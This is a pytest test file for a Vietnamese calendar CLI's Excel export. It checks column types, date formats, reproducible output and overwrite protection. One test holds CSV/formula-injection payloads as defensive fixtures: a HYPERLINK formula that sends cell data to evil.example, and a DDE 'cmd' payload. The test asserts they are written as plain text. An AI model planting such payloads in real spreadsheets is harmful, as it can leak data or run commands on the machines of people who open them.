"""`--format xlsx`: the listings as Excel workbooks, read back with openpyxl (issue 16)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import Cli
from thidua_calendar import _files
from thidua_calendar._xlsx import DATE_FORMAT, MAX_WIDTH, sheet_name, to_xlsx

PLAN = """\
[plan]
title = "Kế hoạch phát động phong trào thi đua năm 2026"
year = 2026

[[phase]]
label = "Đợt 1"
start = "2026-01-01"
end = "2026-06-30"
theme = "Thi đua lập thành tích chào mừng Đại hội"

[[phase]]
label = "Đợt 2"
start = "2026-07-01"
end = "2026-12-31"
"""

# Text a spreadsheet would run as a formula if it were typed into a cell (OWASP).
HOSTILE = {
    "Đợt 1": '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "Đợt 2": "+cmd|' /C calc'!A0",
}
HOSTILE_THEMES = ("-2+3", "@SUM(A1:A9)")


def plan_file(tmp_path: Path, text: str = PLAN) -> Path:
    path = tmp_path / "ke-hoach.toml"
    path.write_text(text, encoding="utf-8")
    return path


def rows_of(path: Path) -> tuple[openpyxl.Workbook, list[list[object]]]:
    book = openpyxl.load_workbook(path)
    sheet = book.active
    return book, [[cell.value for cell in row] for row in sheet.iter_rows()]


def as_csv_text(value: object) -> str:
    """A workbook cell's value as the CSV writes it (dates ISO, booleans true/false)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dt.datetime):
        assert value.time() == dt.time(0)
        return value.date().isoformat()
    return str(value)


def csv_rows(cli: Cli, *argv: str) -> list[list[str]]:
    code, out, err = cli(*argv, "--format", "csv")
    assert code in (0, 1), err
    return list(csv.reader(io.StringIO(out)))


def test_the_schedule_as_a_workbook_has_the_csvs_columns_and_real_dates(
    cli: Cli, tmp_path: Path
) -> None:
    plan = plan_file(tmp_path)
    out = tmp_path / "lich.xlsx"
    argv = ("schedule", "2026", "--plan", str(plan))
    code, stdout, err = cli(*argv, "--format", "xlsx", "-o", str(out))
    assert (code, stdout) == (0, "")
    book, rows = rows_of(out)
    assert err == f"đã ghi {out} ({len(rows) - 1} dòng)\n"
    sheet = book.active
    assert sheet.title == "Lịch 2026"
    assert book.properties.title == "Lịch 2026"
    assert book.properties.creator == "thidua-calendar"
    # the same columns, the same rows, the same values as the CSV
    expected = csv_rows(cli, *argv)
    assert rows[0] == expected[0]
    assert [[as_csv_text(v) for v in row] for row in rows[1:]] == expected[1:]
    # the header: bold, frozen, filtered
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:N{len(rows)}"
    # dates are dates, shown dd/mm/yyyy
    header = rows[0]
    start, end = header.index("start") + 1, header.index("end") + 1
    for row in sheet.iter_rows(min_row=2):
        for cell in (row[start - 1], row[end - 1]):
            assert cell.is_date
            assert cell.number_format == DATE_FORMAT
    tet = next(r for r in rows if r[header.index("key")] == "tet_nguyen_dan")
    assert tet[start - 1] == dt.datetime(2026, 2, 17)
    # numbers and booleans keep their type
    ordinals = [r[header.index("ordinal")] for r in rows[1:] if r[header.index("ordinal")]]
    assert ordinals
    assert all(isinstance(n, int) for n in ordinals)
    assert {type(r[header.index("major_day")]) for r in rows[1:]} == {bool}
    # the columns are as wide as their text, and no wider than MAX_WIDTH (+ 2 of margin)
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["C"] == len("dd/mm/yyyy") + 2  # start
    assert widths["E"] == MAX_WIDTH + 2  # title: long
    assert widths["A"] == max(len(str(r[0])) for r in rows) + 2  # kind


def test_milestones_tet_convert_and_plan_check_as_workbooks(cli: Cli, tmp_path: Path) -> None:
    out = tmp_path / "ky-niem.xlsx"
    assert cli("milestones", "2026", "--format", "xlsx", "-o", str(out))[0] == 0
    book, rows = rows_of(out)
    assert book.active.title == "Ngày kỷ niệm 2026"
    assert rows[0] == csv_rows(cli, "milestones", "2026")[0]
    header = rows[0]
    bac = next(r for r in rows if r[0] == "ngay_sinh_chu_tich_hcm")
    assert bac[header.index("date")] == dt.datetime(2026, 5, 19)
    # an origin before 1 March 1900 cannot be an Excel date: text, written as documents do
    assert bac[header.index("origin")] == "19/05/1890"
    ap_bac = next(r for r in rows if r[0] == "chien_thang_ap_bac")
    assert ap_bac[header.index("origin")] == dt.datetime(1963, 1, 2)

    out = tmp_path / "tet.xlsx"
    assert cli("tet", "2020", "2030", "--format", "xlsx", "-o", str(out), "--lang", "en")[0] == 0
    book, rows = rows_of(out)
    assert book.active.title == "Tết 2020–2030"
    assert rows[0] == ["year", "date", "weekday", "can_chi", "zodiac", "calendar"]
    assert rows[7][:3] == [2026, dt.datetime(2026, 2, 17), "Tuesday"]
    assert len(rows) == 12

    out = tmp_path / "doi-ngay.xlsx"
    code, _, _ = cli("convert", "2026-02-17", "2025-01-29", "--format", "xlsx", "-o", str(out))
    assert code == 0
    book, rows = rows_of(out)
    assert book.active.title == "Đổi ngày âm dương"
    assert [r[0] for r in rows] == ["solar", dt.datetime(2026, 2, 17), dt.datetime(2025, 1, 29)]
    assert rows[1][2] == "01/01/2026"  # the lunar date is text: no Excel date is lunar

    typo = plan_file(tmp_path, PLAN.replace('start = "2026-07-01"', 'start = "2025-07-01"'))
    out = tmp_path / "kiem-tra.xlsx"
    code, _, err = cli("plan", "check", str(typo), "--format", "xlsx", "-o", str(out))
    assert code == 1  # the plan's error still decides the exit code
    book, rows = rows_of(out)
    assert book.active.title == "Kiểm tra kế hoạch"
    expected = csv_rows(cli, "plan", "check", str(typo))
    assert err == f"đã ghi {out} ({len(expected) - 1} dòng)\n"
    assert [[as_csv_text(v) for v in row] for row in rows] == expected
    assert any(r[1] == "error" for r in rows)


def test_user_text_is_never_a_formula(cli: Cli, tmp_path: Path) -> None:
    text = (
        PLAN.replace('label = "Đợt 1"', f"label = '''{HOSTILE['Đợt 1']}'''")
        .replace('label = "Đợt 2"', f"label = '''{HOSTILE['Đợt 2']}'''")
        .replace("Thi đua lập thành tích chào mừng Đại hội", HOSTILE_THEMES[0])
        .replace('end = "2026-12-31"\n', f'end = "2026-12-31"\ntheme = "{HOSTILE_THEMES[1]}"\n')
    )
    plan = plan_file(tmp_path, text)
    out = tmp_path / "lich.xlsx"
    code, _, err = cli("schedule", "2026", "--plan", str(plan), "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    sheet = openpyxl.load_workbook(out).active
    found = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value in (*HOSTILE.values(), *HOSTILE_THEMES):
                found[cell.value] = cell
    assert set(found) == {*HOSTILE.values(), *HOSTILE_THEMES}  # exactly as written, no '
    for cell in found.values():
        assert cell.data_type == "s"  # text, not a formula
        assert cell.quotePrefix  # and marked as text, as a typed leading ' marks it
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<f " not in xml
    # a safe text keeps no mark
    assert not sheet["A2"].quotePrefix


def test_the_same_listing_gives_the_same_bytes(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = plan_file(tmp_path)
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    argv = ("schedule", "2026", "--plan", str(plan), "--format", "xlsx", "-o")
    assert cli(*argv, str(first))[0] == 0
    later = time.time() + 3 * 86400 + 7  # another day, another second: the clock must not show
    monkeypatch.setattr(time, "time", lambda: later)
    assert cli(*argv, str(second))[0] == 0
    monkeypatch.undo()
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2026, 1, 1, 0, 0, 0)}
        assert archive.comment == _files.XLSX_MARKER
        core = archive.read("docProps/core.xml").decode("utf-8")
    assert "<dcterms:created" in core
    assert core.count("2026-01-01T00:00:00Z") == 2  # created and modified
    book = openpyxl.load_workbook(first)
    assert book.properties.created == book.properties.modified == dt.datetime(2026, 1, 1)


def test_a_workbook_needs_a_file(cli: Cli) -> None:
    for argv in (["schedule", "2026"], ["tet", "2026", "-o", "-"], ["milestones", "2026"]):
        code, out, err = cli(*argv, "--format", "xlsx")
        assert (code, out) == (2, "")
        assert err == (
            "thidua-calendar: lỗi: --format xlsx ghi ra tệp: thêm -o TỆP.xlsx (không in tệp "
            "Excel ra màn hình hay đường ống)\n"
        )
    code, out, err = cli("tet", "2026", "--format", "xlsx", "--lang", "en")
    assert (code, out) == (2, "")
    assert err.startswith("thidua-calendar: error: --format xlsx writes a file: add -o FILE.xlsx")
    code, out, err = cli("tet", "2026", "--format", "xlsx", "-o", "x.xlsx", "--bom")
    assert (code, out) == (2, "")
    assert err == "thidua-calendar: lỗi: --bom chỉ dùng cùng --format csv\n"


def test_without_openpyxl_the_clerk_is_told_what_to_install(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # as if it were not installed
    out = tmp_path / "lich.xlsx"
    code, stdout, err = cli("schedule", "2026", "--format", "xlsx", "-o", str(out))
    assert (code, stdout) == (2, "")
    assert err == (
        "thidua-calendar: lỗi: tạo tệp .xlsx cần gói openpyxl: "
        'pip install "thidua-calendar[xlsx]"\n'
    )
    assert not out.exists()
    code, _, err = cli("schedule", "2026", "--format", "xlsx", "-o", str(out), "--lang", "en")
    assert err == (
        "thidua-calendar: error: writing an .xlsx file needs openpyxl: "
        'pip install "thidua-calendar[xlsx]"\n'
    )


def test_a_workbook_the_tool_did_not_write_is_kept(cli: Cli, tmp_path: Path) -> None:
    out = tmp_path / "lich.xlsx"
    argv = ("tet", "2026", "--format", "xlsx", "-o", str(out))
    assert cli(*argv)[0] == 0
    assert _files.written_here(out)
    ours = out.read_bytes()
    assert cli(*argv)[0] == 0  # its own workbook: replaced
    assert out.read_bytes() == ours
    edited = openpyxl.load_workbook(out)
    edited.active["A5"] = "ghi chú của văn thư"
    edited.save(out)  # as Excel saves it: the archive comment is gone
    assert not _files.written_here(out)
    before = out.read_bytes()
    code, _, err = cli(*argv)
    assert code == 2
    assert err == (
        f"thidua-calendar: lỗi: {out} đã có và không do thidua-calendar ghi; "
        "dùng --force để ghi đè\n"
    )
    assert out.read_bytes() == before
    assert cli(*argv, "--force")[0] == 0
    assert out.read_bytes() == ours


def test_sheet_names_and_odd_values() -> None:
    assert sheet_name("a/b:c*d?e[f]g\\h") == "a-b-c-d-e-f-g-h"
    assert len(sheet_name("x" * 40)) == 31
    records = [{"date": "2026-02-30", "note": "a\x1bb", "n": None}]  # no such day; ESC
    data = to_xlsx(records, ["date", "note", "n"], title="Thử", year=2026)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "2026-02-30"  # not a date: left as text
    assert sheet["B2"].value == "a\ufffdb"  # a control a workbook cannot hold
    assert sheet["C2"].value is None
    empty = openpyxl.load_workbook(io.BytesIO(to_xlsx([], [], title="Trống", year=2026))).active
    assert empty.title == "Trống"
    assert empty.max_row == 1
